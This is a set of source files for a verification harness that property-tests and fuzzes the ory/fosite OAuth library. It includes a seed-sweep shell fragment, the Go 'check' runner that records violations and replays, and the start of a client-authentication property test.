      echo "seed=$s $id exit=$rc $(echo "$out" | grep -m1 -A3 '^VIOLATION' | tr '\n' ' ' | cut -c1-600)"
      [ $rc = 2 ] && echo "$out" | tail -5
      mkdir -p /tmp/sweep/keep-$name; cp -r $d/replays/$id /tmp/sweep/keep-$name/$id-seed$s 2>/dev/null
    fi
  done
  echo "seed=$s done $(date +%H:%M)"
done
cd /; rm -rf $d
