// Command check is the single entry point for every command registered in
// /verif/MANIFEST.json.
//
//	check setup
//	check run <ID> [--tier quick|thorough]
//	check replay <ID> <path>
//
// exit 0: property held on everything explored (KNOWN-FINDING lines possible)
// exit 1: "VIOLATION property=<id> replay=<path>" printed
// exit 2: infrastructure problem (build failure, timeout, worker death) - never a violation
package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"
)

// verifDir is where this machinery lives: /verif, or a snapshot of it (VERIF_ROOT is set by ./check).
var verifDir = func() string {
	if r := os.Getenv("VERIF_ROOT"); r != "" {
		return r
	}
	return "/verif"
}()

var harnessDir = filepath.Join(verifDir, "harness")

func repoDir() string {
	if r := os.Getenv("VERIF_REPO"); r != "" {
		return r
	}
	return "/repo"
}

func goEnv() []string {
	env := os.Environ()
	set := func(k, v string) {
		out := env[:0]
		for _, e := range env {
			if !strings.HasPrefix(e, k+"=") {
				out = append(out, e)
			}
		}
		env = append(out, k+"="+v)
	}
	set("GOFLAGS", "-mod=mod")
	set("GOPROXY", "off")
	set("GOSUMDB", "off")
	set("GOTOOLCHAIN", "local")
	return env
}

func infra(format string, a ...any) {
	fmt.Printf("INFRA: "+format+"\n", a...)
	os.Exit(2)
}

func main() {
	if len(os.Args) < 2 {
		fmt.Println("usage: check setup | run <ID> [--tier t] | replay <ID> <path>")
		os.Exit(2)
	}
	switch os.Args[1] {
	case "setup":
		setup()
	case "run":
		if len(os.Args) < 3 {
			infra("run needs a property id")
		}
		tier := os.Getenv("VERIF_TIER")
		for i := 3; i < len(os.Args); i++ {
			if os.Args[i] == "--tier" && i+1 < len(os.Args) {
				tier = os.Args[i+1]
			}
		}
		if tier != "thorough" {
			tier = "quick"
		}
		os.Exit(run(os.Args[2], tier))
	case "replay":
		if len(os.Args) < 4 {
			infra("replay needs a property id and a path")
		}
		os.Exit(replay(os.Args[2], os.Args[3]))
	default:
		infra("unknown command %q", os.Args[1])
	}
}

// ------------------------------------------------------------------ build

// prepareGoMod makes the harness module point at the repository under test
// and refreshes go.sum from it.
func prepareGoMod() {
	gm := filepath.Join(harnessDir, "go.mod")
	b, err := os.ReadFile(gm)
	if err != nil {
		infra("read go.mod: %v", err)
	}
	re := regexp.MustCompile(`(?m)^replace github.com/ory/fosite => .*$`)
	nb := re.ReplaceAll(b, []byte("replace github.com/ory/fosite => "+repoDir()))
	if !bytes.Equal(b, nb) {
		os.WriteFile(gm, nb, 0o644)
	}
}

func workRoot() string { return filepath.Join(verifDir, ".work") }

type build struct {
	dir     string // work dir
	overlay string
	bin     string
	binRace string
}

func runCmd(dir string, env []string, timeout time.Duration, name string, args ...string) ([]byte, error) {
	ctx, cancel := context.WithTimeout(context.Background(), timeout)
	defer cancel()
	c := exec.CommandContext(ctx, name, args...)
	c.Dir = dir
	c.Env = env
	var buf bytes.Buffer
	c.Stdout = &buf
	c.Stderr = &buf
	err := c.Run()
	return buf.Bytes(), err
}

func doBuild(tag string, race bool) *build {
	prepareGoMod()
	b := &build{dir: filepath.Join(workRoot(), tag+"-"+strconv.Itoa(os.Getpid()))}
	os.RemoveAll(b.dir)
	if err := os.MkdirAll(filepath.Join(b.dir, "ov"), 0o755); err != nil {
		infra("mkdir: %v", err)
	}
	env := goEnv()
	out, err := runCmd(harnessDir, env, 10*time.Minute, "go", "run", "./cmd/instr", "-repo", repoDir(), "-out", filepath.Join(b.dir, "ov"))
	if err != nil {
		infra("instr failed: %v\n%s", err, out)
	}
	b.overlay = filepath.Join(b.dir, "ov", "overlay.json")
	b.bin = filepath.Join(b.dir, "props.test")
	args := []string{"test", "-c", "-vet=off", "-overlay", b.overlay, "-o", b.bin}
	if race {
		args = append(args, "-race")
	}
	args = append(args, "./props")
	out, err = runCmd(harnessDir, env, 20*time.Minute, "go", args...)
	if err != nil {
		infra("build of the harness against %s failed: %v\n%s", repoDir(), err, tail(out, 4000))
	}
	return b
}

func tail(b []byte, n int) string {
	if len(b) > n {
		return "…" + string(b[len(b)-n:])
	}
	return string(b)
}

func setup() {
	prepareGoMod()
	env := goEnv()
	if out, err := runCmd(harnessDir, env, 20*time.Minute, "go", "build", "./..."); err != nil {
		infra("go build: %v\n%s", err, out)
	}
	b := doBuild("setup", false)
	os.RemoveAll(b.dir)
	b = doBuild("setup-race", true)
	os.RemoveAll(b.dir)
	fmt.Println("setup ok")
}

// ------------------------------------------------------------------ run

type shardStats struct {
	Property    string            `json:"property"`
	Evaluations int               `json:"evaluations"`
	Nontrivial  int               `json:"nontrivial"`
	Hashes      []uint64          `json:"hashes"`
	HashesCut   bool              `json:"hashes_cut"`
	Labels      map[string]int    `json:"labels"`
	Samples     []json.RawMessage `json:"samples"`
	KnownHits   map[string]int    `json:"known_hits"`
	KnownActive []string          `json:"known_active"`
	Excluded    map[string]int    `json:"excluded"`
	Violations  []struct {
		Fingerprint string `json:"fingerprint"`
		Message     string `json:"message"`
	} `json:"violations"`
	Exhaustive map[string]bool `json:"exhaustive"`
	Notes      []string        `json:"notes"`
	Completed  bool            `json:"completed"`
}

type shardResult struct {
	job      Job
	idx      int
	seed     uint64
	exit     int
	timedOut bool
	out      []byte
	stats    *shardStats
	dir      string
	failfile string
	wall     float64
}

func splitmix(x uint64) uint64 {
	x += 0x9e3779b97f4a7c15
	z := x
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	return z ^ (z >> 31)
}

func shardSeed(seed int64, id string, job, i int) uint64 {
	x := uint64(seed)
	for _, c := range []byte(id) {
		x = splitmix(x ^ uint64(c))
	}
	x = splitmix(x ^ uint64(job)<<32 ^ uint64(i))
	return (x >> 1) | 1 // rapid treats 0 as "random"; keep it below 2^63 for readability
}

// metaFor records everything a replay needs to decode the saved draws exactly as the failing shard did
// (rapid's Repeat reads -rapid.steps; some jobs read their shard number).
func metaFor(id string, r *shardResult, fp, tier string, seed int64) map[string]any {
	checks, steps := r.job.Checks[0], r.job.Steps[0]
	if tier == "thorough" {
		checks, steps = r.job.Checks[1], r.job.Steps[1]
	}
	return map[string]any{"property": id, "test": r.job.Test, "fingerprint": fp, "rapid_seed": r.seed, "tier": tier,
		"checks": checks, "steps": steps, "shard": r.idx, "nshards": r.job.shards(tier), "verif_seed": seed}
}

var failfileRe = regexp.MustCompile(`-rapid\.failfile="([^"]+)"`)

func runShard(b *build, p *Plan, tier string, seed int64, ji int, job Job, i int, sem chan struct{}) *shardResult {
	sem <- struct{}{}
	defer func() { <-sem }()
	r := &shardResult{job: job, idx: i}
	r.seed = shardSeed(seed, p.ID, ji, i)
	r.dir = filepath.Join(b.dir, fmt.Sprintf("j%d-s%d", ji, i))
	os.MkdirAll(r.dir, 0o755)
	statsPath := filepath.Join(r.dir, "stats.json")
	checks, steps := job.Checks[0], job.Steps[0]
	to := job.Timeout[0]
	if tier == "thorough" {
		checks, steps, to = job.Checks[1], job.Steps[1], job.Timeout[1]
	}
	bin := b.bin
	args := []string{"-test.run", "^" + job.Test + "$", "-test.timeout", "0", "-test.v"}
	if checks > 0 {
		args = append(args, "-rapid.checks", strconv.Itoa(checks))
	}
	if steps > 0 {
		args = append(args, "-rapid.steps", strconv.Itoa(steps))
	}
	args = append(args, "-rapid.seed", strconv.FormatUint(r.seed, 10), "-rapid.shrinktime", "20s")
	env := append(goEnv(),
		"VERIF_STATS="+statsPath,
		"VERIF_TIER="+tier,
		"VERIF_SHARD="+strconv.Itoa(i),
		"VERIF_NSHARDS="+strconv.Itoa(job.shards(tier)),
		"VERIF_SEED="+strconv.FormatInt(seed, 10),
		"VERIF_SHARD_SEED="+strconv.FormatUint(r.seed, 10),
		"VERIF_KNOWN="+filepath.Join(verifDir, "known_findings.json"),
		"VERIF_HARNESS="+harnessDir,
	)
	if job.Race {
		env = append(env, "GORACE=history_size=5")
	}
	t0 := time.Now()
	ctx, cancel := context.WithTimeout(context.Background(), time.Duration(to)*time.Second)
	defer cancel()
	c := exec.CommandContext(ctx, bin, args...)
	c.Dir = r.dir
	c.Env = env
	var buf bytes.Buffer
	c.Stdout = &buf
	c.Stderr = &buf
	err := c.Run()
	r.wall = time.Since(t0).Seconds()
	r.out = buf.Bytes()
	if ctx.Err() != nil {
		r.timedOut = true
	}
	if err != nil {
		r.exit = 1
		if ee, ok := err.(*exec.ExitError); ok {
			r.exit = ee.ExitCode()
		}
	}
	if sb, e := os.ReadFile(statsPath); e == nil {
		var s shardStats
		if json.Unmarshal(sb, &s) == nil {
			r.stats = &s
		}
	}
	if m := failfileRe.FindSubmatch(r.out); m != nil {
		ff := string(m[1])
		if !filepath.IsAbs(ff) {
			ff = filepath.Join(r.dir, ff)
		}
		r.failfile = ff
	}
	return r
}

type knownFile struct {
	Findings []struct {
		Status      string `json:"status"`
		Property    string `json:"property"`
		Fingerprint string `json:"fingerprint"`
		What        string `json:"what"`
	} `json:"findings"`
}

func loadKnown() map[string]string {
	out := map[string]string{}
	b, err := os.ReadFile(filepath.Join(verifDir, "known_findings.json"))
	if err != nil {
		return out
	}
	var k knownFile
	if json.Unmarshal(b, &k) != nil {
		return out
	}
	for _, f := range k.Findings {
		if f.Status == "known" {
			out[f.Fingerprint] = f.What
		}
	}
	return out
}

func run(id, tier string) int {
	p := planFor(id)
	if p == nil {
		infra("no plan for property %q", id)
	}
	seed := int64(1)
	if s := os.Getenv("VERIF_SEED"); s != "" {
		if v, err := strconv.ParseInt(s, 10, 64); err == nil {
			seed = v
		} else {
			seed = int64(splitmix(uint64(len(s))) >> 1)
		}
	}
	t0 := time.Now()
	needRace, needPlain := false, false
	for _, j := range p.Jobs {
		if j.Race {
			needRace = true
		} else {
			needPlain = true
		}
	}
	var bPlain, bRace *build
	if needPlain {
		bPlain = doBuild(id+"-"+tier, false)
		defer os.RemoveAll(bPlain.dir)
	}
	if needRace {
		bRace = doBuild(id+"-"+tier+"-race", true)
		defer os.RemoveAll(bRace.dir)
	}
	sem := make(chan struct{}, 16)
	var wg sync.WaitGroup
	var mu sync.Mutex
	var results []*shardResult
	for ji, job := range p.Jobs {
		if job.ThoroughOnly && tier != "thorough" {
			continue
		}
		b := bPlain
		if job.Race {
			b = bRace
		}
		n := job.shards(tier)
		for i := 0; i < n; i++ {
			wg.Add(1)
			go func(ji int, job Job, i int, b *build) {
				defer wg.Done()
				r := runShard(b, p, tier, seed, ji, job, i, sem)
				mu.Lock()
				results = append(results, r)
				mu.Unlock()
			}(ji, job, i, b)
		}
	}
	wg.Wait()
	sort.Slice(results, func(a, b int) bool {
		if results[a].job.Test != results[b].job.Test {
			return results[a].job.Test < results[b].job.Test
		}
		return results[a].idx < results[b].idx
	})

	// native fuzzing (thorough only)
	var fuzzNotes []string
	var fuzzViol []string
	if tier == "thorough" {
		for _, fz := range p.Fuzz {
			note, crash := runFuzz(bPlain, p, fz)
			fuzzNotes = append(fuzzNotes, note)
			if crash != "" {
				fuzzViol = append(fuzzViol, crash)
			}
		}
	}

	// ---- merge
	known := loadKnown()
	ev := map[string]any{}
	hashes := map[uint64]struct{}{}
	labels := map[string]int{}
	excluded := map[string]int{}
	knownHits := map[string]int{}
	knownActive := map[string]bool{}
	exhaustive := map[string]bool{}
	var samples []json.RawMessage
	perTest := map[string]int{}
	var notes []string
	evaluations, nontrivial := 0, 0
	hashesCut := false
	type viol struct{ fp, msg, replay string }
	var viols []viol
	infraProblems := []string{}
	repDir := filepath.Join(verifDir, "replays", id)
	for _, r := range results {
		if r.stats != nil {
			s := r.stats
			evaluations += s.Evaluations
			nontrivial += s.Nontrivial
			for _, hv := range s.Hashes {
				hashes[hv] = struct{}{}
			}
			hashesCut = hashesCut || s.HashesCut
			for k, v := range s.Labels {
				labels[k] += v
			}
			for k, v := range s.Excluded {
				excluded[k] += v
			}
			for k, v := range s.KnownHits {
				knownHits[k] += v
			}
			for _, k := range s.KnownActive {
				knownActive[k] = true
			}
			for k, v := range s.Exhaustive {
				if old, ok := exhaustive[k]; ok {
					exhaustive[k] = old && v
				} else {
					exhaustive[k] = v
				}
			}
			// samples: a few per test function, so that every engine of the check is represented
			if perTest[r.job.Test] < 3 && len(samples) < 14 {
				for _, sm := range s.Samples {
					if perTest[r.job.Test] < 3 && len(samples) < 14 {
						samples = append(samples, sm)
						perTest[r.job.Test]++
					}
				}
			}
			for _, n := range s.Notes {
				if len(notes) < 30 {
					notes = append(notes, n)
				}
			}
		}
		// the race detector and the runtime's concurrent-map check report through the process output
		lockOrder := id == "C19" && bytes.Contains(r.out, []byte("WARNING: LOCK ORDER INVERSION"))
		if !r.timedOut && (lockOrder || bytes.Contains(r.out, []byte("WARNING: DATA RACE")) || bytes.Contains(r.out, []byte("fatal error: concurrent map"))) {
			fp := "C19/data-race"
			if bytes.Contains(r.out, []byte("fatal error: concurrent map")) {
				fp = "C19/concurrent-map-access"
			} else if lockOrder && !bytes.Contains(r.out, []byte("WARNING: DATA RACE")) {
				// reported by the lock-order tracker the overlay puts behind sync.Mutex / sync.RWMutex (cmd/instr)
				fp = "C19/lock-order-inversion"
			}
			os.MkdirAll(repDir, 0o755)
			base := fmt.Sprintf("%s-%s-seed%d", r.job.Test, sanitize(fp), r.seed)
			txt := filepath.Join(repDir, base+".txt")
			os.WriteFile(txt, r.out, 0o644)
			meta, _ := json.Marshal(metaFor(id, r, fp, tier, seed))
			os.WriteFile(filepath.Join(repDir, base+".meta.json"), meta, 0o644)
			viols = append(viols, viol{fp, raceExcerpt(r.out), txt})
			continue
		}
		if r.exit != 0 || r.timedOut {
			isViol := false
			if r.stats != nil && len(r.stats.Violations) > 0 && !r.timedOut {
				isViol = true
			}
			if bytes.Contains(r.out, []byte("VERIF-INFRA")) {
				isViol = false
			}
			if isViol {
				os.MkdirAll(repDir, 0o755)
				v := r.stats.Violations[len(r.stats.Violations)-1]
				base := fmt.Sprintf("%s-%s-seed%d", r.job.Test, sanitize(v.Fingerprint), r.seed)
				txt := filepath.Join(repDir, base+".txt")
				hdr := fmt.Sprintf("property=%s test=%s tier=%s VERIF_SEED=%d shard=%d rapid.seed=%d\nfingerprint=%s\n%s\n\n---- output of the failing shard ----\n", id, r.job.Test, tier, seed, r.idx, r.seed, v.Fingerprint, v.Message)
				os.WriteFile(txt, append([]byte(hdr), r.out...), 0o644)
				replayPath := txt
				if r.failfile != "" {
					if fb, err := os.ReadFile(r.failfile); err == nil {
						ff := filepath.Join(repDir, base+".fail")
						os.WriteFile(ff, fb, 0o644)
						replayPath = ff
					}
				}
				meta, _ := json.Marshal(metaFor(id, r, v.Fingerprint, tier, seed))
				os.WriteFile(strings.TrimSuffix(replayPath, filepath.Ext(replayPath))+".meta.json", meta, 0o644)
				viols = append(viols, viol{v.Fingerprint, v.Message, replayPath})
			} else if lp, where := libraryPanic(r.out); lp && !r.timedOut && !bytes.Contains(r.out, []byte("VERIF-INFRA")) {
				// the library itself panicked while serving a generated request (innermost non-runtime frame is fosite's,
				// not the harness'): whatever the property demands of that request, it was not delivered
				os.MkdirAll(repDir, 0o755)
				fp := id + "/library-panic"
				base := fmt.Sprintf("%s-%s-seed%d", r.job.Test, sanitize(fp), r.seed)
				txt := filepath.Join(repDir, base+".txt")
				os.WriteFile(txt, r.out, 0o644)
				replayPath := txt
				if r.failfile != "" {
					if fb, err := os.ReadFile(r.failfile); err == nil {
						ff := filepath.Join(repDir, base+".fail")
						os.WriteFile(ff, fb, 0o644)
						replayPath = ff
					}
				}
				meta, _ := json.Marshal(metaFor(id, r, fp, tier, seed))
				os.WriteFile(strings.TrimSuffix(replayPath, filepath.Ext(replayPath))+".meta.json", meta, 0o644)
				viols = append(viols, viol{fp, "ory/fosite panicked while serving a generated request: " + where, replayPath})
			} else {
				why := "exit " + strconv.Itoa(r.exit)
				if r.timedOut {
					why = "timed out"
				}
				infraProblems = append(infraProblems, fmt.Sprintf("%s shard %d: %s\n%s", r.job.Test, r.idx, why, tail(r.out, 3000)))
			}
		} else if r.stats == nil {
			infraProblems = append(infraProblems, fmt.Sprintf("%s shard %d: no stats file", r.job.Test, r.idx))
		} else if !r.stats.Completed {
			infraProblems = append(infraProblems, fmt.Sprintf("%s shard %d: did not run to completion\n%s", r.job.Test, r.idx, tail(r.out, 1500)))
		}
	}
	for _, c := range fuzzViol {
		viols = append(viols, viol{"fuzz-crash", "native fuzzing found a failing input", c})
	}

	distinct := len(hashes)
	cov := map[string]any{
		"evaluations":               evaluations,
		"nontrivial_cases":          nontrivial,
		"distinct_nontrivial":       distinct,
		"rule":                      p.Rule,
		"samples":                   samples,
		"labels":                    labels,
		"shards":                    len(results),
		"excluded_by_known_finding": excluded,
		"known_findings_reproduced": keysOf(knownActive),
		"known_finding_hits":        knownHits,
	}
	if hashesCut {
		cov["distinct_nontrivial_note"] = "per-shard digest sets were capped; distinct_nontrivial is a lower bound"
	}
	if len(exhaustive) > 0 {
		all := true
		for _, v := range exhaustive {
			all = all && v
		}
		cov["exhaustive_parts"] = exhaustive
		if p.ExhaustiveWhenAll && all {
			cov["exhaustive"] = true
		}
	}
	if len(notes) > 0 {
		cov["notes"] = notes
	}
	if len(fuzzNotes) > 0 {
		cov["native_fuzzing"] = fuzzNotes
	}
	ev["property_id"] = id
	ev["tier"] = tier
	ev["seed"] = seed
	ev["level"] = p.Level
	ev["coverage"] = cov
	ev["assumptions"] = p.Assumptions
	ev["wall_s"] = time.Since(t0).Seconds()
	ev["violations"] = len(viols)
	os.MkdirAll(filepath.Join(verifDir, "evidence"), 0o755)
	eb, _ := json.MarshalIndent(ev, "", " ")
	os.WriteFile(filepath.Join(verifDir, "evidence", id+".json"), eb, 0o644)

	for _, fp := range keysOf(knownActive) {
		fmt.Printf("KNOWN-FINDING: property=%s %s [%s]\n", id, known[fp], fp)
	}
	fmt.Printf("%s %s: evaluations=%d distinct_nontrivial=%d shards=%d wall=%.1fs\n", id, tier, evaluations, distinct, len(results), time.Since(t0).Seconds())
	if len(viols) > 0 {
		seen := map[string]bool{}
		for _, v := range viols {
			if seen[v.fp] {
				continue
			}
			seen[v.fp] = true
			fmt.Printf("VIOLATION property=%s replay=%s\n", id, v.replay)
			fmt.Printf("  fingerprint=%s\n  %s\n", v.fp, firstLines(v.msg, 12))
		}
		return 1
	}
	if len(infraProblems) > 0 {
		for _, s := range infraProblems {
			fmt.Println("INFRA:", s)
		}
		return 2
	}
	if evaluations == 0 || distinct < 2 {
		fmt.Println("INFRA: no non-trivial cases were generated")
		return 2
	}
	return 0
}

// raceExcerpt returns the first race report (or runtime fatal error) of a shard's output.
// libraryPanic reports whether the output shows a panic whose innermost frame outside the Go runtime and the module
// cache belongs to the fosite tree under test (and not to the harness). Understands rapid's "Traceback:" block and the
// runtime's own "goroutine N [running]:" dump.
func libraryPanic(out []byte) (bool, string) {
	s := string(out)
	i := strings.Index(s, "[rapid] panic after")
	if i < 0 {
		i = strings.Index(s, "\npanic: ")
	}
	if i < 0 {
		return false, ""
	}
	lines := strings.Split(s[i:], "\n")
	msg := strings.TrimSpace(lines[0])
	if len(msg) > 300 {
		msg = msg[:300]
	}
	for _, l := range lines[1:] {
		t := strings.TrimSpace(l)
		if t == "" || strings.HasPrefix(t, "To reproduce") || strings.HasPrefix(t, "Traceback") || strings.HasPrefix(t, "goroutine ") || strings.HasPrefix(t, "[signal") {
			continue
		}
		if strings.HasPrefix(t, "Failed test output") {
			break
		}
		if strings.Contains(t, "/pkg/mod/") || strings.Contains(t, " in runtime.") || strings.HasPrefix(t, "runtime.") || strings.Contains(t, "/src/runtime/") || strings.HasPrefix(t, "panic(") || strings.Contains(t, "/src/testing/") || strings.HasPrefix(t, "testing.") {
			continue
		}
		if strings.Contains(t, "verifharness/") || strings.Contains(t, "/harness/") {
			return false, ""
		}
		if strings.Contains(t, "github.com/ory/fosite") || strings.Contains(t, repoDir()+"/") {
			return true, msg + " at " + t
		}
	}
	return false, ""
}

func raceExcerpt(out []byte) string {
	s := string(out)
	i := strings.Index(s, "WARNING: DATA RACE")
	if i < 0 {
		i = strings.Index(s, "fatal error: concurrent map")
	}
	if i < 0 {
		i = strings.Index(s, "WARNING: LOCK ORDER INVERSION")
	}
	if i < 0 {
		return ""
	}
	s = s[i:]
	if len(s) > 2500 {
		s = s[:2500]
	}
	return s
}

func firstLines(s string, n int) string {
	l := strings.Split(s, "\n")
	if len(l) > n {
		l = append(l[:n], "…")
	}
	return strings.Join(l, "\n  ")
}

func keysOf(m map[string]bool) []string {
	var l []string
	for k, v := range m {
		if v {
			l = append(l, k)
		}
	}
	sort.Strings(l)
	return l
}

func sanitize(s string) string {
	var b strings.Builder
	for _, c := range s {
		if (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '-' || c == '_' {
			b.WriteRune(c)
		} else {
			b.WriteByte('_')
		}
	}
	r := b.String()
	if len(r) > 60 {
		r = r[:60]
	}
	return r
}

// ------------------------------------------------------------------ native fuzzing (thorough)

func runFuzz(b *build, p *Plan, fz Fuzz) (note string, crash string) {
	env := append(goEnv(), "VERIF_KNOWN="+filepath.Join(verifDir, "known_findings.json"), "VERIF_TIER=thorough")
	// go test -fuzz needs the package source; run in the harness module with the overlay.
	args := []string{"test", "-vet=off", "-overlay", b.overlay, "-run", "^$", "-fuzz", "^" + fz.Target + "$", "-fuzztime", fz.Time, "./props"}
	t0 := time.Now()
	out, err := runCmd(harnessDir, env, 30*time.Minute, "go", args...)
	note = fmt.Sprintf("%s fuzztime=%s wall=%.0fs: %s", fz.Target, fz.Time, time.Since(t0).Seconds(), lastLine(out))
	if err != nil {
		m := regexp.MustCompile(`testdata/fuzz/` + fz.Target + `/[0-9a-f]+`).Find(out)
		if m != nil {
			src := filepath.Join(harnessDir, "props", string(m))
			repDir := filepath.Join(verifDir, "replays", p.ID)
			os.MkdirAll(repDir, 0o755)
			dst := filepath.Join(repDir, fz.Target+"-"+filepath.Base(src)+".fuzz")
			if fb, e := os.ReadFile(src); e == nil {
				os.WriteFile(dst, fb, 0o644)
				os.WriteFile(strings.TrimSuffix(dst, ".fuzz")+".txt", out, 0o644)
				os.Remove(src)
				meta, _ := json.Marshal(map[string]any{"property": p.ID, "test": fz.Target, "fuzz": true})
				os.WriteFile(strings.TrimSuffix(dst, ".fuzz")+".meta.json", meta, 0o644)
				return note + " CRASH", dst
			}
		}
		if bytes.Contains(out, []byte("VERIF-VIOLATION")) {
			repDir := filepath.Join(verifDir, "replays", p.ID)
			os.MkdirAll(repDir, 0o755)
			dst := filepath.Join(repDir, fz.Target+"-seedcorpus.txt")
			os.WriteFile(dst, out, 0o644)
			return note + " FAIL", dst
		}
		note += " (fuzz run ended with an error that is not a finding: " + tail(out, 300) + ")"
	}
	return note, ""
}

func lastLine(b []byte) string {
	l := strings.Split(strings.TrimSpace(string(b)), "\n")
	for i := len(l) - 1; i >= 0; i-- {
		if strings.HasPrefix(l[i], "fuzz:") {
			return l[i]
		}
	}
	if len(l) > 0 {
		return l[len(l)-1]
	}
	return ""
}

// ------------------------------------------------------------------ replay

func replay(id, path string) int {
	p := planFor(id)
	if p == nil {
		infra("no plan for %s", id)
	}
	metaPath := strings.TrimSuffix(path, filepath.Ext(path)) + ".meta.json"
	var meta struct {
		Test      string `json:"test"`
		Fuzz      bool   `json:"fuzz"`
		RapidSeed uint64 `json:"rapid_seed"`
		Tier      string `json:"tier"`
		Checks    int    `json:"checks"`
		Steps     int    `json:"steps"`
		Shard     int    `json:"shard"`
		NShards   int    `json:"nshards"`
		VerifSeed int64  `json:"verif_seed"`
	}
	if mb, err := os.ReadFile(metaPath); err == nil {
		json.Unmarshal(mb, &meta)
	}
	if meta.Test == "" {
		infra("no meta file next to %s", path)
	}
	race := false
	for _, j := range p.Jobs {
		if j.Test == meta.Test && j.Race {
			race = true
		}
	}
	b := doBuild(id+"-replay", race)
	defer os.RemoveAll(b.dir)
	env := append(goEnv(), "VERIF_KNOWN="+filepath.Join(verifDir, "known_findings.json"), "VERIF_TIER="+meta.Tier, "VERIF_HARNESS="+harnessDir, "VERIF_REPLAY=1")
	if meta.NShards > 0 {
		env = append(env, "VERIF_SHARD="+strconv.Itoa(meta.Shard), "VERIF_NSHARDS="+strconv.Itoa(meta.NShards),
			"VERIF_SEED="+strconv.FormatInt(meta.VerifSeed, 10), "VERIF_SHARD_SEED="+strconv.FormatUint(meta.RapidSeed, 10))
	}
	var rapidArgs []string
	if meta.Checks > 0 {
		rapidArgs = append(rapidArgs, "-rapid.checks", strconv.Itoa(meta.Checks))
	}
	if meta.Steps > 0 {
		rapidArgs = append(rapidArgs, "-rapid.steps", strconv.Itoa(meta.Steps))
	}
	var out []byte
	var err error
	if meta.Fuzz {
		// run the saved input through the fuzz target
		dir := filepath.Join(harnessDir, "props", "testdata", "fuzz", meta.Test)
		os.MkdirAll(dir, 0o755)
		dst := filepath.Join(dir, "replay-"+filepath.Base(path))
		in, _ := os.ReadFile(path)
		os.WriteFile(dst, in, 0o644)
		defer os.Remove(dst)
		out, err = runCmd(harnessDir, env, 10*time.Minute, "go", "test", "-vet=off", "-overlay", b.overlay, "-run", "^"+meta.Test+"$/"+filepath.Base(dst), "./props")
	} else if strings.HasSuffix(path, ".fail") {
		abs, _ := filepath.Abs(path)
		// the saved draws first; should they no longer decode to a failure, the shard's own search is repeated
		args := append([]string{"-test.run", "^" + meta.Test + "$", "-test.v", "-test.timeout", "0", "-rapid.failfile", abs, "-rapid.seed", strconv.FormatUint(meta.RapidSeed, 10)}, rapidArgs...)
		out, err = runCmd(b.dir, env, 60*time.Minute, b.bin, args...)
	} else {
		args := append([]string{"-test.run", "^" + meta.Test + "$", "-test.v", "-test.timeout", "0", "-rapid.seed", strconv.FormatUint(meta.RapidSeed, 10)}, rapidArgs...)
		out, err = runCmd(b.dir, env, 60*time.Minute, b.bin, args...)
	}
	io.Copy(os.Stdout, bytes.NewReader([]byte(tail(out, 20000))))
	if id == "C19" && (bytes.Contains(out, []byte("WARNING: DATA RACE")) || bytes.Contains(out, []byte("fatal error: concurrent map")) || bytes.Contains(out, []byte("WARNING: LOCK ORDER INVERSION"))) {
		fmt.Printf("\n%s\n\nVIOLATION property=%s replay=%s\n", raceExcerpt(out), id, path)
		return 1
	}
	if err != nil {
		if bytes.Contains(out, []byte("VERIF-VIOLATION")) {
			fmt.Printf("\nVIOLATION property=%s replay=%s\n", id, path)
			return 1
		}
		if lp, where := libraryPanic(out); lp && !bytes.Contains(out, []byte("VERIF-INFRA")) {
			fmt.Printf("\n%s\n\nVIOLATION property=%s replay=%s\n", where, id, path)
			return 1
		}
		return 2
	}
	fmt.Println("\nreplay passed (no violation with this input on the current tree)")
	return 0
}
