package props

import (
	"context"
	"encoding/base64"
	"fmt"
	"github.com/ory/fosite/storage"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/go-jose/go-jose/v3"
	"github.com/ory/fosite"
	"pgregory.net/rapid"

	"verifharness/h"
)

// C10 — client authentication guards every client-authenticated endpoint.

const assertionType = "urn:ietf:params:oauth:client-assertion-type:jwt-bearer"
const jwtBearerGrant = "urn:ietf:params:oauth:grant-type:jwt-bearer"

type c10Client struct {
	bare    bool
	id      string
	oidc    bool
	method  string
	public  bool
	secret  string
	rotated []string
	key     interface{} // private key for private_key_jwt
	alg     string
}

var c10IDs = []string{"client-x", "my:client", "cli ent+&=%", "clïent-ü"}
var c10Secrets = []string{"simple-secret-1", "p%ss+w:rd&=x y", "sécret-ü-ß", "a:b:c", "%41%42", "trailing "}

func (c c10Client) register(w *h.World) fosite.Client {
	dc := &fosite.DefaultClient{
		ID:            c.id,
		RedirectURIs:  []string{redirectURI},
		GrantTypes:    []string{"authorization_code", "refresh_token", "client_credentials", "password", deviceGrant, jwtBearerGrant},
		ResponseTypes: []string{"code"},
		Scopes:        []string{"a", "offline"},
		Public:        c.public,
	}
	if c.secret != "" {
		dc.Secret = w.HashSecret(c.secret)
	}
	for _, r := range c.rotated {
		dc.RotatedSecrets = append(dc.RotatedSecrets, w.HashSecret(r))
	}
	var cl fosite.Client = dc
	if c.bare {
		cl = bareClient{dc}
	}
	if c.oidc {
		oc := &fosite.DefaultOpenIDConnectClient{DefaultClient: dc, TokenEndpointAuthMethod: c.method}
		if c.key != nil {
			oc.TokenEndpointAuthSigningAlgorithm = c.alg
			oc.JSONWebKeys = &jose.JSONWebKeySet{Keys: []jose.JSONWebKey{h.PublicJWK(c.key, "kid-1", c.alg)}}
		}
		cl = oc
	}
	w.AddClient(cl, c.secret)
	return cl
}

// bareClient implements only fosite.Client (no secret rotation, no OIDC extras).
type bareClient struct{ d *fosite.DefaultClient }

func (b bareClient) GetID() string                      { return b.d.GetID() }
func (b bareClient) GetHashedSecret() []byte            { return b.d.GetHashedSecret() }
func (b bareClient) GetRedirectURIs() []string          { return b.d.GetRedirectURIs() }
func (b bareClient) GetGrantTypes() fosite.Arguments    { return b.d.GetGrantTypes() }
func (b bareClient) GetResponseTypes() fosite.Arguments { return b.d.GetResponseTypes() }
func (b bareClient) GetScopes() fosite.Arguments        { return b.d.GetScopes() }
func (b bareClient) IsPublic() bool                     { return b.d.IsPublic() }
func (b bareClient) GetAudience() fosite.Arguments      { return b.d.GetAudience() }

func (c c10Client) validSecret(v string) bool {
	if c.secret != "" && v == c.secret {
		return true
	}
	for _, r := range c.rotated {
